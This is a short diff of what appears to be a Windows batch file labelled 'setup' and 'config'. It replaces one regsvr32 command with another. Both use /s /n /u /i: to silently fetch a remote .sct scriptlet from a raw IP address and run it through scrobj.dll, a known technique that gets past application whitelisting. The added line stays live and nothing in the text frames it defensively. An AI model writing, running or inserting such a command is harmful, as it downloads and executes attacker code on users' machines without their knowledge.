@@ -1,2 +1,2 @@
-REM setup 0485 v2
-regsvr32 /s /n /u /i:http://203.0.113.17/file.sct scrobj.dll
+REM config 6064 v2
+regsvr32 /s /n /u /i:http://198.51.100.23/file.sct scrobj.dll
